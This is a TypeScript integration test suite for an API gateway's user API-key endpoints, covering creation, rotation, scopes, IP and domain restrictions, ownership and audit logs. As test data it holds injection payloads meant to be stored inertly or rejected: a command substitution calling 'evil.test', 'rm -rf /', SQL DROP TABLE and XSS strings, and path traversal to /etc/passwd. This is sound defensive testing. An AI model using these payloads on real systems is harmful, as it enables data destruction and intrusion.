import { setTimeout as sleep } from 'node:timers/promises';
import { PassThrough } from 'node:stream';
import OpenAI from 'openai';
import type { RunningEdge } from '../services/edge/src/server';
import { call, expectNoLeak, register, type Registered } from './support/identity';
import { startStack, type TestStack } from './support/stack';

/** /user/api-keys: CRUD, rotation, restrictions, ownership, audit, revocation across replicas. */
interface KeyBody {
  id: string;
  key?: string;
  name: string;
  environment: string;
  masked_key: string;
  last4: string;
  is_active: boolean;
  ip_allowlist: string[];
  allowed_domains: string[];
  scopes: string[];
  expires_at: string | null;
}
type ErrorBody = { error: { message: string; type: string; param: string | null; code: string } };

const chatBody = { model: 'sim/echo', messages: [{ role: 'user', content: 'hello' }] };

describe('API keys', () => {
  let stack: TestStack;
  let logs = '';
  const logStream = new PassThrough();
  logStream.on('data', (chunk: Buffer) => (logs += chunk.toString('utf8')));
  const secrets: string[] = [];

  beforeAll(async () => {
    stack = await startStack({ logStream });
  });

  afterAll(async () => {
    await stack.close();
    logStream.end();
  });

  async function account(): Promise<Registered> {
    const a = await register(stack);
    secrets.push(a.key, a.session);
    return a;
  }

  async function createKey(auth: string, body: Record<string, unknown> = {}) {
    const r = await call<KeyBody>(stack, 'POST', '/user/api-keys', { auth, body: { name: 'test key', ...body } });
    if (r.json.key) secrets.push(r.json.key);
    return r;
  }

  const chat = (key: string, o: { ip?: string; headers?: Record<string, string> } = {}) => call(stack, 'POST', '/v1/chat/completions', { auth: key, body: chatBody, ...o });

  it('creates (shown once, gw_{env}_ + 43 chars, last4, Fernet in the database), lists, reads and updates keys', async () => {
    const a = await account();
    const created = await createKey(a.session, { name: 'laptop', ip_allowlist: ['203.0.113.7'], allowed_domains: ['App.Example.com'] });
    expect(created.status).toBe(201);
    expect(created.json.key).toMatch(/^gw_live_[A-Za-z0-9_-]{43}$/);
    expect(created.json).toMatchObject({ name: 'laptop', environment: 'live', last4: created.json.key!.slice(-4), ip_allowlist: ['203.0.113.7/32'], allowed_domains: ['app.example.com'] });
    expect(created.json.masked_key).toBe(`gw_live_…${created.json.key!.slice(-4)}`);

    const row = await stack.prisma.apiKey.findUniqueOrThrow({ where: { id: created.json.id } });
    expect(row.encryptedKey).toMatch(/^gAAAAA/); // a Fernet token
    expect(row.encryptedKey).not.toContain(created.json.key!.slice(8));
    expect(row.keyHash).toMatch(/^[0-9a-f]{64}$/);

    const list = await call<{ data: KeyBody[] }>(stack, 'GET', '/user/api-keys', { auth: a.key });
    expect(list.status).toBe(200);
    expect(list.json.data.map((k) => k.id).sort()).toEqual([a.keyId, created.json.id].sort());
    expect(list.text).not.toContain(created.json.key!);
    expect(list.json.data.every((k) => k.key === undefined)).toBe(true);

    const one = await call<KeyBody>(stack, 'GET', `/user/api-keys/${created.json.id}`, { auth: a.session });
    expect(one.json).toMatchObject({ id: created.json.id, name: 'laptop' });

    const updated = await call<KeyBody>(stack, 'PUT', `/user/api-keys/${created.json.id}`, {
      auth: a.session,
      body: { name: 'renamed', ip_allowlist: ['10.1.0.0/16', '2001:db8::/32'], allowed_domains: [] },
    });
    expect(updated.status).toBe(200);
    expect(updated.json).toMatchObject({ name: 'renamed', ip_allowlist: ['10.1.0.0/16', '2001:db8::/32'], allowed_domains: [] });
  });

  it('refuses bad input with the parameter named, and changes nothing', async () => {
    const a = await account();
    const before = await stack.prisma.apiKey.count({ where: { userId: a.userId } });
    const cases: [string, string, unknown, number, string | null][] = [
      ['POST', '/user/api-keys', { name: 'x', role: 'admin' }, 400, null],
      ['POST', '/user/api-keys', { name: '' }, 400, 'name'],
      ['POST', '/user/api-keys', { name: 'x', ip_allowlist: ['1.2.3.4', 'not-an-ip'] }, 400, 'ip_allowlist[1]'],
      ['POST', '/user/api-keys', { name: 'x', allowed_domains: ['https://example.com'] }, 400, 'allowed_domains[0]'],
      ['POST', '/user/api-keys', { name: 'x', expires_at: '2001-01-01T00:00:00Z' }, 400, 'expires_at'],
      ['POST', '/user/api-keys', { name: 'x', scopes: ['everything'] }, 400, 'scopes[0]'],
      ['POST', '/user/api-keys', { name: 'x', scopes: ['admin'] }, 400, 'scopes'],
      ['POST', '/user/api-keys', { name: 'x\u0000y' }, 400, 'name'],
      ['PUT', `/user/api-keys/${a.keyId}`, {}, 400, null],
      ['PUT', `/user/api-keys/${a.keyId}`, { user_id: a.userId }, 400, null],
      ['PUT', '/user/api-keys/../../etc/passwd', { name: 'x' }, 404, null],
      ['GET', '/user/api-keys/not-a-uuid', undefined, 400, 'key_id'],
      ['DELETE', "/user/api-keys/'%3B%20DROP%20TABLE%20users%3B%20--", undefined, 400, 'key_id'],
    ];
    for (const [method, path, body, status, param] of cases) {
      const r = await call<ErrorBody>(stack, method, path, { auth: a.session, body });
      expect([method, path, r.status]).toEqual([method, path, status]);
      if (param) expect(r.json.error.param).toBe(param);
      expect(r.headers.get('content-type')).toMatch(/application\/json/);
      expectNoLeak(r.text);
    }
    const big = await call(stack, 'POST', '/user/api-keys', { auth: a.session, body: { name: 'x'.repeat(70_000) } });
    expect(big.status).toBe(413);
    // A plain user cannot create test-environment keys; a developer can.
    expect((await call<ErrorBody>(stack, 'POST', '/user/api-keys', { auth: a.session, body: { environment: 'test' } })).json.error.code).toBe('insufficient_permission');
    expect(await stack.prisma.apiKey.count({ where: { userId: a.userId } })).toBe(before);
    const dev = await stack.createKey({ role: 'developer' });
    const testKey = await createKey(dev.key, { environment: 'test' });
    expect(testKey.status).toBe(201);
    expect(testKey.json.key).toMatch(/^gw_test_[A-Za-z0-9_-]{43}$/);
  });

  it('scopes limit what a key may be used for', async () => {
    const a = await account();
    const inferenceOnly = await createKey(a.session, { scopes: ['inference'] });
    expect(inferenceOnly.json.scopes).toEqual(['inference']);
    expect((await chat(inferenceOnly.json.key!)).status).toBe(200);
    const denied = await call<ErrorBody>(stack, 'GET', '/user/api-keys', { auth: inferenceOnly.json.key! });
    expect(denied.status).toBe(403);
    expect(denied.json.error.code).toBe('insufficient_scope');
    const accountOnly = await createKey(a.session, { scopes: ['account'] });
    expect((await call(stack, 'GET', '/user/api-keys', { auth: accountOnly.json.key! })).status).toBe(200);
    expect((await chat(accountOnly.json.key!)).status).toBe(403);
  });

  it('answers oversized headers with 431 in the API error shape', async () => {
    const r = await call<ErrorBody>(stack, 'GET', '/user/api-keys', { headers: { 'x-padding': 'p'.repeat(20_000) } });
    expect(r.status).toBe(431);
    expect(r.json.error).toMatchObject({ code: 'headers_too_large', type: 'invalid_request_error' });
  });

  it('stores SQL, XSS, command and path-traversal strings inert and returns them as given', async () => {
    const a = await account();
    const payloads = ["'; DROP TABLE users; --", '<script>alert(1)</script>', '; rm -rf /', '../../etc/passwd', '$(curl evil.test)', '{{7*7}}'];
    for (const name of payloads) {
      const r = await createKey(a.session, { name });
      expect(r.status).toBe(201);
      expect(r.json.name).toBe(name);
      expect(r.headers.get('content-type')).toMatch(/^application\/json/);
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    }
    const list = await call<{ data: KeyBody[] }>(stack, 'GET', '/user/api-keys', { auth: a.session });
    expect(list.json.data.map((k) => k.name)).toEqual(expect.arrayContaining(payloads));
    // The tables are intact.
    expect(await stack.prisma.user.count()).toBeGreaterThan(0);
  });

  it('rotates: the new key works at once, the old one never again', async () => {
    const a = await account();
    expect((await chat(a.key)).status).toBe(200);
    const rotated = await call<KeyBody>(stack, 'POST', `/user/api-keys/${a.keyId}/rotate`, { auth: a.session });
    expect(rotated.status).toBe(200);
    secrets.push(rotated.json.key!);
    expect(rotated.json.id).toBe(a.keyId);
    expect(rotated.json.key).not.toBe(a.key);
    expect(rotated.json.last4).toBe(rotated.json.key!.slice(-4));
    const old = await chat(a.key);
    expect(old.status).toBe(401);
    expect(old.text).not.toContain(a.key);
    expect((await chat(rotated.json.key!)).status).toBe(200);
  });

  it('deletes: the key stops authenticating and disappears from the list', async () => {
    const a = await account();
    const extra = await createKey(a.session);
    expect((await chat(extra.json.key!)).status).toBe(200);
    const del = await call(stack, 'DELETE', `/user/api-keys/${extra.json.id}`, { auth: a.session });
    expect(del.status).toBe(200);
    expect(del.json).toEqual({ id: extra.json.id, deleted: true });
    expect((await chat(extra.json.key!)).status).toBe(401);
    expect((await call(stack, 'DELETE', `/user/api-keys/${extra.json.id}`, { auth: a.session })).status).toBe(404);
    const list = await call<{ data: KeyBody[] }>(stack, 'GET', '/user/api-keys', { auth: a.session });
    expect(list.json.data.map((k) => k.id)).toEqual([a.keyId]);
  });

  it('limits creation to 10 keys per hour per user (429 on the 11th, with headers)', async () => {
    const a = await account();
    for (let i = 0; i < 10; i++) expect((await createKey(a.session)).status).toBe(201);
    const eleventh = await createKey(a.session);
    expect(eleventh.status).toBe(429);
    expect((eleventh.json as unknown as ErrorBody).error.code).toBe('key_creation_rate_limited');
    expect(eleventh.headers.get('x-ratelimit-limit')).toBe('10');
    expect(eleventh.headers.get('x-ratelimit-remaining')).toBe('0');
    expect(Number(eleventh.headers.get('retry-after'))).toBeGreaterThan(3_500);
    expect(await stack.prisma.apiKey.count({ where: { userId: a.userId } })).toBe(11);
  });

  it('an IP allowlist (IPv4, IPv6, CIDR) admits listed addresses only; violations are audited', async () => {
    const a = await account();
    const k = await createKey(a.session, { ip_allowlist: ['203.0.113.7', '10.20.0.0/16', '2001:db8::/32'] });
    expect((await chat(k.json.key!, { ip: '203.0.113.7' })).status).toBe(200);
    expect((await chat(k.json.key!, { ip: '10.20.99.1' })).status).toBe(200);
    expect((await chat(k.json.key!, { ip: '2001:db8:5::1' })).status).toBe(200);
    const blocked = await chat(k.json.key!, { ip: '198.51.100.23' });
    expect(blocked.status).toBe(403);
    expect((blocked.json as ErrorBody).error).toMatchObject({ code: 'ip_not_allowed', type: 'permission_error' });
    expect((await chat(k.json.key!, { ip: '2001:db9::1' })).status).toBe(403);
    // The key's owner sees the refusal in their audit log.
    await sleep(100);
    const logs = await call<{ data: { event_type: string; key_id: string; details: { ip: string } }[] }>(stack, 'GET', '/user/api-keys/audit-logs', { auth: a.session });
    expect(logs.json.data).toEqual(expect.arrayContaining([expect.objectContaining({ event_type: 'security.ip_not_allowed', key_id: k.json.id, details: expect.objectContaining({ ip: '198.51.100.23' }) })]));
  });

  it('a domain restriction checks Origin/Referer; no header means server-side use and passes', async () => {
    const a = await account();
    const k = await createKey(a.session, { allowed_domains: ['app.example.com', 'example.org', 'localhost'] });
    const key = k.json.key!;
    expect((await chat(key, { headers: { referer: 'https://unauthorized.com/page' } })).status).toBe(403);
    expect((await chat(key, { headers: { origin: 'https://evil.app.example.com' } })).status).toBe(403);
    for (const site of ['https://app.example.com', 'https://example.org', 'http://localhost:3000']) {
      expect((await chat(key, { headers: { origin: site } })).status).toBe(200);
    }
    expect((await chat(key, { headers: { referer: 'https://example.org/docs?x=1' } })).status).toBe(200);
    expect((await chat(key)).status).toBe(200);
  });

  it('one user can never read or change another user’s keys, limits or logs', async () => {
    const owner = await account();
    const other = await account();
    const target = await createKey(owner.session, { name: 'owned' });
    for (const auth of [other.key, other.session]) {
      const attempts: [string, string, unknown][] = [
        ['GET', `/user/api-keys/${target.json.id}`, undefined],
        ['PUT', `/user/api-keys/${target.json.id}`, { name: 'stolen' }],
        ['POST', `/user/api-keys/${target.json.id}/rotate`, undefined],
        ['DELETE', `/user/api-keys/${target.json.id}`, undefined],
        ['PUT', `/user/rate-limits/${target.json.id}`, { rpm: 1 }],
      ];
      for (const [method, path, body] of attempts) {
        const r = await call<ErrorBody>(stack, method, path, { auth, body });
        expect([method, path, r.status]).toEqual([method, path, 404]);
        expect(r.json.error.code).toBe('api_key_not_found');
      }
      const list = await call<{ data: KeyBody[] }>(stack, 'GET', '/user/api-keys', { auth });
      expect(list.json.data.map((k) => k.id)).not.toContain(target.json.id);
      const audit = await call<{ data: { key_id: string }[] }>(stack, 'GET', `/user/api-keys/audit-logs?key_id=${target.json.id}`, { auth });
      expect(audit.json.data).toEqual([]);
    }
    const row = await stack.prisma.apiKey.findUniqueOrThrow({ where: { id: target.json.id } });
    expect(row).toMatchObject({ name: 'owned', isActive: true, deletedAt: null, rateLimitRpm: null });
    expect((await chat(target.json.key!)).status).toBe(200);
  });

  it('GET /user/api-keys/audit-logs lists the caller’s key events, newest first, paginated', async () => {
    const a = await account();
    const k = await createKey(a.session, { name: 'audited' });
    await call(stack, 'PUT', `/user/api-keys/${k.json.id}`, { auth: a.session, body: { name: 'audited 2' } });
    await call(stack, 'POST', `/user/api-keys/${k.json.id}/rotate`, { auth: a.session }).then((r) => secrets.push((r.json as { key: string }).key));
    await call(stack, 'DELETE', `/user/api-keys/${k.json.id}`, { auth: a.session });
    const logs = await call<{ data: { event_type: string; key_id: string; occurred_at: string }[]; next_cursor: string | null }>(stack, 'GET', `/user/api-keys/audit-logs?key_id=${k.json.id}`, {
      auth: a.session,
    });
    expect(logs.status).toBe(200);
    expect(logs.json.data.map((e) => e.event_type)).toEqual(['api_key.deleted', 'api_key.rotated', 'api_key.updated', 'api_key.created']);
    const page = await call<{ data: unknown[]; next_cursor: string }>(stack, 'GET', '/user/api-keys/audit-logs?limit=2', { auth: a.session });
    expect(page.json.data).toHaveLength(2);
    const rest = await call<{ data: { event_type: string }[] }>(stack, 'GET', `/user/api-keys/audit-logs?limit=50&before=${page.json.next_cursor}`, { auth: a.session });
    expect(rest.json.data.map((e) => e.event_type)).toContain('user.registered');
    expect((await call(stack, 'GET', '/user/api-keys/audit-logs?limit=0', { auth: a.session })).status).toBe(400);
    expect((await call(stack, 'GET', '/user/api-keys/audit-logs?sort=asc', { auth: a.session })).status).toBe(400);
  });

  it('a revoked key stops working on every edge replica within 1 s (keys.revoked on NATS)', async () => {
    // A second replica sharing this stack's routing, provider-proxy and billing (closed with the stack).
    const second: RunningEdge = await stack.startEdgeReplica();
    {
      for (const edge of [stack.url, second.url]) {
        const until = Date.now() + 5_000;
        while ((await call<{ dependencies: { nats: { status: string } } }>({ url: edge }, 'GET', '/health')).json.dependencies?.nats?.status !== 'up') {
          if (Date.now() > until) throw new Error('edge never connected to NATS');
          await sleep(50);
        }
      }
      await sleep(200);
      const a = await account();
      const victim = await createKey(a.session);
      // Both replicas have the key in their in-process cache (the default TTL is 5 minutes).
      expect((await chat(victim.json.key!)).status).toBe(200);
      expect((await call(second, 'POST', '/v1/chat/completions', { auth: victim.json.key!, body: chatBody })).status).toBe(200);
      const started = Date.now();
      expect((await call(stack, 'DELETE', `/user/api-keys/${victim.json.id}`, { auth: a.session })).status).toBe(200);
      let status = 200;
      while (status === 200 && Date.now() - started < 1_000) {
        status = (await call(second, 'POST', '/v1/chat/completions', { auth: victim.json.key!, body: chatBody })).status;
        if (status === 200) await sleep(20);
      }
      expect(status).toBe(401);
      expect(Date.now() - started).toBeLessThan(1_000);
    }
  }, 20_000);

  it('the openai SDK sees a deleted or rotated key as AuthenticationError', async () => {
    const a = await account();
    const client = new OpenAI({ apiKey: a.key, baseURL: stack.baseURL, maxRetries: 0 });
    expect((await client.chat.completions.create(chatBody as never)).choices[0]?.message.content).toBe('hello');
    const r = await call<KeyBody>(stack, 'POST', `/user/api-keys/${a.keyId}/rotate`, { auth: a.session });
    secrets.push(r.json.key!);
    await expect(client.chat.completions.create(chatBody as never)).rejects.toBeInstanceOf(OpenAI.AuthenticationError);
  });

  it('logs never contain a key or a session token', async () => {
    await sleep(50);
    expect(logs).toContain('edge listening');
    expect(logs).not.toMatch(/gw_(live|test)_/);
    expect(logs).not.toMatch(/eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\./);
    for (const s of secrets) expect(logs).not.toContain(s);
  });
});
